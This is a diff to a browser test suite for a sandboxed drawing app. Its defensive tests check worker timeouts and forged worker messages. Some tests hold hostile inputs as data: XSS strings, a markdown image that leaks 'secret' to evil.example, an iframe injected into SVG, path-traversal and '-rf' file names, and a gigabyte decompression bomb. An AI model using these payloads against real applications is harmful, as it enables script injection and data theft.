@@ -14,6 +14,7 @@ import {
   openCode,
   pageEventually,
   ready,
+  runCode,
   saved,
   say,
   typeCode,
@@ -34,26 +35,85 @@ const SAYS = {
 const RESPONDS = 100;
 const NEXT_RUN = 1_000;
 
-/** Replaces the Worker class of the page by one that records the end of each run: answered, broken, or terminated by the page. */
-function recordRuns() {
+/**
+ * Replaces the Worker class of the page by one that records its objects and can replace their messages. `window.workers` has:
+ * - `most`: the maximum number of workers that existed at the same time;
+ * - `runs`: each run that a worker received, with its start, its end (answered, broken, or terminated by the page), and its
+ *   duration in ms;
+ * - `forge` and `silent`: a function from `forgeries` that makes messages of a run, and whether the run itself is withheld;
+ * - `hold` and `release()`: whether workers do not receive the engine, and the function that gives it to them.
+ */
+function watchWorkers() {
   const Real = window.Worker;
-  window.runs = [];
+  const alive = new Set();
+  const forgeries = {
+    "unknown messages": () => [null, "done", 7, [], {}, { kind: "done" }, { kind: "done", id: -1, bytes: [] }, { kind: "other" }],
+    "random bytes": ({ id }) => [{ kind: "done", id, bytes: crypto.getRandomValues(new Uint8Array(5000)) }],
+    "no bytes": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array(0) }],
+    "the result of another run": ({ id }) => [{ kind: "done", id: id + 1, bytes: new Uint8Array(9) }],
+    "too many bytes": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array((64 << 20) + 1) }],
+    "a crash with markup": ({ id }) => [{ kind: "crash", id, text: "<img src=x onerror=alert(1)>", panic: "" }],
+    "a second ready": () => [{ kind: "ready", protocol: 1, build: "x" }],
+    "2000 times stuck": ({ id }) => Array.from({ length: 2000 }, () => ({ kind: "stuck", id, file: "main", line: 99999, column: 1 })),
+    "two results": ({ id }) => [1, 2].map(() => ({ kind: "done", id, bytes: new Uint8Array([3, 1, 2]) })),
+  };
+  const held = [];
+  const ended = (run, end) => {
+    if (run?.end === null) Object.assign(run, { end, duration: performance.now() - run.start });
+  };
+  const workers = { most: 0, runs: [], forge: null, silent: false, forgeries, hold: false };
+  workers.release = () => {
+    workers.hold = false;
+    for (const send of held.splice(0)) send();
+  };
+  window.workers = workers;
   window.Worker = class extends Real {
     constructor(...given) {
       super(...given);
+      alive.add(this);
+      workers.most = Math.max(workers.most, alive.size);
       this.addEventListener("message", ({ data }) => {
-        if (this.run && (data.kind === "done" || data.kind === "crash")) this.run.end ??= data.kind === "done" ? "answered" : "broken";
+        if (data?.kind === "done") ended(this.run, "answered");
+        if (data?.kind === "crash") ended(this.run, "broken");
       });
     }
     postMessage(message, ...rest) {
-      if (message.kind === "run") window.runs.push((this.run = { id: message.id, end: null }));
-      super.postMessage(message, ...rest);
+      const send = () => super.postMessage(message, ...rest);
+      if (message.kind === "arm" && workers.hold) {
+        held.push(send);
+        return;
+      }
+      if (message.kind === "run") {
+        workers.runs.push((this.run = { start: performance.now(), end: null }));
+        for (const data of workers.forge?.(message) ?? []) {
+          setTimeout(() => this.dispatchEvent(new MessageEvent("message", { data })));
+        }
+        if (workers.forge && workers.silent) return;
+      }
+      send();
     }
     terminate() {
-      if (this.run) this.run.end ??= "ended";
+      alive.delete(this);
+      ended(this.run, "terminated");
       super.terminate();
     }
   };
+}
+
+/** Runs endless code and waits until a worker has received it. The label makes the code differ from earlier code. */
+async function startEndless(page, label) {
+  const before = await page.evaluate(() => window.workers.runs.length);
+  await runCode(page, `// ${label}\nwhile (true) {}`);
+  await pageEventually(page, "a worker has received the run", (before) => window.workers.runs.length > before, before);
+}
+
+/** Waits until nothing runs; then each run has exactly one end, and there were at most two workers. */
+async function assertRunsEnded(page, run) {
+  await page.waitForSelector(`${hook("stop-run")}[aria-disabled="true"]`);
+  const { runs, most } = await page.evaluate(() => window.workers);
+  run.note(`${runs.length} runs: ${runs.map(({ end }) => end).join(", ")}; at most ${most} workers at the same time`);
+  assertEqual(runs.filter(({ end }) => end === null), [], "runs without an end");
+  assert(most <= 2, `${most} workers existed at the same time`);
 }
 
 /** Waits for a problem that matches the pattern, and returns its text. */
@@ -70,21 +130,12 @@ function problem(page, wanted, limit = 25_000) {
   );
 }
 
-/** Opens the app after an init script of the test has been added to the page. */
-async function openWith(run, script, argument) {
-  const page = await run.newPage();
-  await page.addInitScript(script, argument);
-  await page.goto(run.url);
-  await ready(page);
-  return page;
-}
-
 for (const { item, code, outcome } of ATTACKS) {
   test(`attack: item ${item} ends with ${outcome} and the next run works within a second`, TIMED, async ({ run }) => {
-    const page = await openWith(run, recordRuns);
+    const page = await openApp(run, { init: watchWorkers });
     await drawCircles(page, "before");
     await watchMainThread(page);
-    await page.evaluate(() => (window.runs = []));
+    await page.evaluate(() => (window.workers.runs = []));
     const [kind, what] = outcome.split(" ");
     if (kind === "OK") {
       await typeCode(page, `${code}\ndrawCircle("done", 0, 0, 1);`);
@@ -98,8 +149,8 @@ for (const { item, code, outcome } of ATTACKS) {
       await waitForEntities(page, ["before"]);
     }
     // The worker itself reports a limit of the engine. The page terminates the worker of a run that the engine cannot stop.
-    const ends = await page.evaluate(() => window.runs.map((run) => run.end));
-    assertEqual(ends[0], kind === "KILL" ? "ended" : "answered", "how the run ended");
+    const ends = await page.evaluate(() => window.workers.runs.map((run) => run.end));
+    assertEqual(ends[0], kind === "KILL" ? "terminated" : "answered", "how the run ended");
     const { longest, gap } = await mainThread(page);
     run.note(`longest main-thread task ${Math.round(longest)} ms, longest time between two frames ${Math.round(gap)} ms`);
     assert(longest <= RESPONDS, `a main-thread task took ${Math.round(longest)} ms`);
@@ -137,7 +188,7 @@ test("attack: markup is text in the tree, the log, problems and the preview", as
   await clean("in the preview");
 });
 
-test("attack: what a model writes is text, without links, pictures or markup", async ({ run }) => {
+test("attack: text of a model is shown without links, pictures or markup", async ({ run }) => {
   const words =
     "Here ![](https://evil.example/?q=secret) and [a link](javascript:alert(1)) and <img src=x onerror=alert(1)> <script>alert(1)</script> **done**";
   const mock = await startMock({ turns: [reply(text(words))] });
@@ -168,7 +219,7 @@ function crc32(bytes) {
   return (~crc >>> 0).toString(16).padStart(8, "0");
 }
 
-test("attack: a link that unpacks to a gigabyte is refused at once", TIMED, async ({ run }) => {
+test("attack: a link that decompresses to a gigabyte is refused at once", TIMED, async ({ run }) => {
   const packed = deflateRawSync(Buffer.alloc(1 << 30, 32), { level: 9 });
   const encoded = packed.toString("base64url");
   const page = await openApp(run);
@@ -188,63 +239,14 @@ test("attack: a link that unpacks to a gigabyte is refused at once", TIMED, asyn
   await waitForEntities(page, ["own"]);
 });
 
-/** Replaces the Worker class of the page by one that sends forged messages before the real ones, or instead of them. */
-function forgeWorkers() {
-  const Real = window.Worker;
-  const alive = new Set();
-  const forgeries = {
-    "nothing of ours": () => [null, "done", 7, [], {}, { kind: "done" }, { kind: "done", id: -1, bytes: [] }, { kind: "other" }],
-    garbage: ({ id }) => [{ kind: "done", id, bytes: crypto.getRandomValues(new Uint8Array(5000)) }],
-    "nothing at all": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array(0) }],
-    "the result of another run": ({ id }) => [{ kind: "done", id: id + 1, bytes: new Uint8Array(9) }],
-    "too much": ({ id }) => [{ kind: "done", id, bytes: new Uint8Array((64 << 20) + 1) }],
-    "a crash with markup": ({ id }) => [{ kind: "crash", id, text: "<img src=x onerror=alert(1)>", panic: "" }],
-    "ready once more": () => [{ kind: "ready", protocol: 1, build: "x" }],
-    "stuck without end": ({ id }) =>
-      Array.from({ length: 2000 }, () => ({ kind: "stuck", id, file: "main", line: 99999, column: 1 })),
-    "everything twice": ({ id }) => [1, 2].map(() => ({ kind: "done", id, bytes: new Uint8Array([3, 1, 2]) })),
-  };
-  window.workers = { most: 0, forge: null, silent: false, forgeries };
-  window.Worker = class extends Real {
-    constructor(...given) {
-      super(...given);
-      alive.add(this);
-      window.workers.most = Math.max(window.workers.most, alive.size);
-    }
-    terminate() {
-      alive.delete(this);
-      super.terminate();
-    }
-    postMessage(message, ...rest) {
-      const { forge, silent } = window.workers;
-      if (message.kind === "run" && forge) {
-        for (const data of forge(message)) {
-          setTimeout(() => this.dispatchEvent(new MessageEvent("message", { data })));
-        }
-        if (silent) return;
-      }
-      super.postMessage(message, ...rest);
-    }
-  };
-}
-
-test("attack: whatever a worker answers, the drawing stays and the next run works", async ({ run }) => {
-  const page = await openWith(run, forgeWorkers);
+test("attack: forged worker answers leave the drawing unchanged, and the next run works", async ({ run }) => {
+  const page = await openApp(run, { init: watchWorkers });
   page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
   await drawCircles(page, "before");
-  /** Name of each forgery, and whether the run fails: messages with an unknown format have no effect. */
-  const forgeries = [
-    ["nothing of ours", false],
-    ["garbage", true],
-    ["nothing at all", true],
-    ["the result of another run", true],
-    ["too much", true],
-    ["a crash with markup", true],
-    ["ready once more", true],
-    ["stuck without end", true],
-    ["everything twice", true],
-  ];
-  for (const [at, [name, fails]] of forgeries.entries()) {
+  const names = await page.evaluate(() => Object.keys(window.workers.forgeries));
+  for (const [at, name] of names.entries()) {
+    // Messages with an unknown format have no effect, so the run itself is not withheld and succeeds.
+    const fails = name !== "unknown messages";
     await page.evaluate(
       ([name, silent]) => {
         window.workers.forge = window.workers.forgeries[name];
@@ -256,6 +258,7 @@ test("attack: whatever a worker answers, the drawing stays and the next run work
     if (fails) {
       const said = await problem(page, /./);
       run.note(`${name}: ${said.trim().slice(0, 110)}`);
+      await waitForEntities(page, [`after_${at - 1}`]);
     } else {
       await waitForEntities(page, [`forged_${at}`]);
     }
@@ -269,21 +272,19 @@ test("attack: whatever a worker answers, the drawing stays and the next run work
   }
 });
 
-test("attack: never more than two workers, and no outcome is lost", async ({ run }) => {
-  const page = await openWith(run, forgeWorkers);
+test("attack: at most two workers exist, and every run ends", async ({ run }) => {
+  const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "first");
-  for (let at = 0; at < 20; at += 1) await typeCode(page, `drawCircle("quick_${at}", 0, 0, 5);`);
+  // A newer run replaces an older one that has not ended.
+  for (let at = 0; at < 20; at += 1) await runCode(page, `drawCircle("quick_${at}", 0, 0, 5);`);
   await waitForEntities(page, ["quick_19"]);
-  // A newer run replaces an endless run.
-  await typeCode(page, "while (true) {}");
-  await typeCode(page, 'drawCircle("overtaking", 0, 0, 5);');
+  await startEndless(page, "replaced");
+  await runCode(page, 'drawCircle("overtaking", 0, 0, 5);');
   await waitForEntities(page, ["overtaking"]);
-  const most = await page.evaluate(() => window.workers.most);
-  run.note(`at most ${most} workers at once`);
-  assert(most <= 2, `${most} workers were alive at once`);
+  await assertRunsEnded(page, run);
 });
 
-test("attack: without an engine the page says so and everything else works", async ({ run }) => {
+test("attack: a missing engine is reported and everything else works", async ({ run }) => {
   run.allow(/Failed to load resource/, /404/, /SyntaxError/, /WebAssembly/, /sandbox/);
   const answers = [
     ["sandbox_bg.wasm", { status: 404, body: "not found" }, /could not be loaded/],
@@ -352,7 +353,7 @@ test("attack: a worker has no network, no storage and no other workers", async (
   assert(said.includes("found[]"), `what a worker can reach: ${said}`);
 });
 
-test("attack: a saved picture of hostile texts runs and fetches nothing when it is opened", async ({ run }) => {
+test("attack: an exported SVG with hostile texts runs and fetches nothing", async ({ run }) => {
   const page = await openApp(run);
   const texts = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]><script>alert(2)</script>", "</text><foreignObject><iframe src=https://evil.example>"];
   const lines = texts.map((text, at) => {
@@ -389,7 +390,7 @@ test("attack: a saved picture of hostile texts runs and fetches nothing when it 
   assertEqual(troubles, [], "what the picture did");
 });
 
-test("share: file names of hostile titles are plain", async ({ run }) => {
+test("share: file names of hostile titles are sanitized", async ({ run }) => {
   const page = await openApp(run);
   for (const title of ["../../x", "C:\\\\x", ".hidden", "a\u202egpj.exe", "x".repeat(200), "a/b:c*d?e|f", "-rf", "con"]) {
     await typeCode(page, `set_drawing({ name: ${JSON.stringify(title)} });\ndrawCircle("c", 0, 0, ${title.length});`);
@@ -407,7 +408,7 @@ test("share: file names of hostile titles are plain", async ({ run }) => {
   }
 });
 
-test("attack: storage filled to the quota, and storage switched off, lose nothing", async ({ run }) => {
+test("attack: full and disabled storage lose nothing", async ({ run }) => {
   const page = await openApp(run);
   await drawCircles(page, "stored");
   await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
@@ -439,7 +440,7 @@ test("attack: storage filled to the quota, and storage switched off, lose nothin
   await ready(page);
   await waitForEntities(page, ["stored", "only_here", "again"]);
 
-  const closed = await openWith(run, () => {
+  const denyStorage = () => {
     const denied = {
       get() {
         throw new DOMException("denied", "SecurityError");
@@ -447,31 +448,32 @@ test("attack: storage filled to the quota, and storage switched off, lose nothin
     };
     Object.defineProperty(window, "localStorage", denied);
     Object.defineProperty(window, "sessionStorage", denied);
-  });
+  };
+  const closed = await openApp(run, { init: denyStorage });
   await drawCircles(closed, "without", "storage");
   await fromMenu(closed, "share-export");
   assert((await saved(closed, "export-project-file")).text.includes("without"), "the export works without storage");
 });
 
-test("attack: spoilt storage opens, is said and is left in place", async ({ run }) => {
+test("attack: corrupt storage is reported and left in place", async ({ run }) => {
   const page = await openApp(run);
   await drawCircles(page, "kept");
   await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
-  const spoilt = { "work:holds": '{"a":', "work:title": '{"name":1}', "work:tools": '[{"version":99}]', "work:memory/decisions": "7" };
-  await page.evaluate((spoilt) => {
-    for (const [key, value] of Object.entries(spoilt)) localStorage.setItem(`trammel:${key}`, value);
-  }, spoilt);
+  const corrupt = { "work:holds": '{"a":', "work:title": '{"name":1}', "work:tools": '[{"version":99}]', "work:memory/decisions": "7" };
+  await page.evaluate((corrupt) => {
+    for (const [key, value] of Object.entries(corrupt)) localStorage.setItem(`trammel:${key}`, value);
+  }, corrupt);
   await page.reload();
   await ready(page);
   await waitForEntities(page, ["kept"]);
   run.note((await page.locator(hook("not-read")).innerText()).slice(0, 160));
   await drawCircles(page, "kept", "more");
-  const left = await page.evaluate((keys) => keys.map((key) => localStorage.getItem(`trammel:${key}`)), Object.keys(spoilt));
+  const left = await page.evaluate((keys) => keys.map((key) => localStorage.getItem(`trammel:${key}`)), Object.keys(corrupt));
   run.note(`left in place: ${JSON.stringify(left)}`);
-  assertEqual(left.slice(0, 3), Object.values(spoilt).slice(0, 3), "what could not be read");
+  assertEqual(left.slice(0, 3), Object.values(corrupt).slice(0, 3), "what could not be read");
 });
 
-test("attack: two tabs that write in the same moment lose neither text", async ({ run }) => {
+test("attack: two tabs that write at the same time lose no text", async ({ run }) => {
   const first = await openApp(run);
   await drawCircles(first, "ours");
   const second = await first.context().newPage();
@@ -493,26 +495,27 @@ test("attack: two tabs that write in the same moment lose neither text", async (
   await waitForEntities(asked[0], asked[1]);
 });
 
-test("attack: a page that was frozen, and clocks that jump, end a run with a time limit", TIMED, async ({ run }) => {
-  const page = await openApp(run);
+test("attack: a run ends at its limit on a blocked page with clock jumps", TIMED, async ({ run }) => {
+  const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "before");
-  const session = await page.context().newCDPSession(page);
-  await typeCode(page, "while (true) {}");
-  // During the run, the clock moves one hour forward, then two hours back. The tab is frozen for 3 s, like a background tab.
+  await startEndless(page, "blocked");
+  // The main thread is blocked until the run is beyond its limit and beyond the page's timeout of 12 s, like that of a frozen
+  // tab: then the answer of the worker and the timeout are both due. The clock moves one hour forward, then two hours back.
   await page.evaluate(() => {
     const real = Date.now;
     Date.now = () => real() + 3_600_000;
-    setTimeout(() => (Date.now = () => real() - 3_600_000), 500);
+    const end = window.workers.runs.at(-1).start + 13_000;
+    while (performance.now() < end);
+    Date.now = () => real() - 3_600_000;
   });
-  await session.send("Page.setWebLifecycleState", { state: "frozen" });
-  await new Promise((resume) => setTimeout(resume, 3_000));
-  await session.send("Page.setWebLifecycleState", { state: "active" });
   run.note((await problem(page, SAYS.time)).trim().slice(0, 120));
   await waitForEntities(page, ["before"]);
+  await assertRunsEnded(page, run);
   await drawCircles(page, "after");
+  await page.waitForSelector(hook("problem"), { state: "detached" });
 });
 
-test("attack: an engine of the wrong type or forbidden by the page's policy is said", async ({ run }) => {
+test("attack: an engine with a wrong MIME type or blocked by CSP is reported", async ({ run }) => {
   run.allow(/Content.Security.Policy|CSP/, /wasm|WebAssembly|MIME/);
   // A host that serves WebAssembly with the wrong MIME type: the engine starts nevertheless.
   const wrong = await run.newPage();
@@ -543,22 +546,37 @@ test("attack: an engine of the wrong type or forbidden by the page's policy is s
   await page.waitForSelector(hook("share-url"));
 });
 
-test("attack: a run that is stopped while it starts, runs or ends leaves one outcome", TIMED, async ({ run }) => {
-  const page = await openWith(run, forgeWorkers);
+test("attack: a run replaced while it starts, runs or ends has one outcome", TIMED, async ({ run }) => {
+  const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "first");
-  // Delays in ms after which a new run replaces the endless one: during the start of its worker, during the run, and shortly
-  // before the time limit.
-  for (const [at, wait] of [0, 20, 300, 2_000, 9_700].entries()) {
-    await typeCode(page, `// ${at}\nwhile (true) {}`);
-    await new Promise((resume) => setTimeout(resume, wait));
-    await drawCircles(page, `after_${at}`);
+
+  // While its worker starts: this run uses the ready worker, and the next worker does not receive the engine yet.
+  await page.evaluate(() => (window.workers.hold = true));
+  await drawCircles(page, "last_worker");
+  const received = await page.evaluate(() => window.workers.runs.length);
+  await runCode(page, "while (true) {}");
+  await page.waitForSelector(`${hook("stop-run")}:not([aria-disabled="true"])`);
+  await runCode(page, 'drawCircle("at_start", 0, 0, 5);');
+  assertEqual(await page.evaluate(() => window.workers.runs.length), received, "runs that a worker has received");
+  await page.evaluate(() => window.workers.release());
+  await waitForEntities(page, ["at_start"]);
+  await page.waitForSelector(hook("problem"), { state: "detached" });
+
+  // No run replaces this one, which reports that it timed out.
+  await startEndless(page, "not replaced");
+  await problem(page, SAYS.time);
+  await waitForEntities(page, ["at_start"]);
+  const duration = await page.evaluate(() => window.workers.runs.at(-1).duration);
+  run.note(`an endless run ends after ${Math.round(duration)} ms`);
+
+  // While it runs, and about when it ends.
+  for (const [name, age] of [["in_run", 0], ["at_end", duration - 300]]) {
+    await startEndless(page, name);
+    const isOld = (age) => performance.now() - window.workers.runs.at(-1).start >= age;
+    await pageEventually(page, `the run has taken ${Math.round(age)} ms`, isOld, age);
+    await runCode(page, `drawCircle("${name}", 0, 0, 5);`);
+    await waitForEntities(page, [name]);
     await page.waitForSelector(hook("problem"), { state: "detached" });
   }
-  // No run replaces the last endless run, which reports that it timed out.
-  await typeCode(page, "while (true) {}");
-  await problem(page, SAYS.time);
-  await waitForEntities(page, ["after_4"]);
-  const most = await page.evaluate(() => window.workers.most);
-  run.note(`at most ${most} workers at once`);
-  assert(most <= 2, `${most} workers were alive at once`);
+  await assertRunsEnded(page, run);
 });
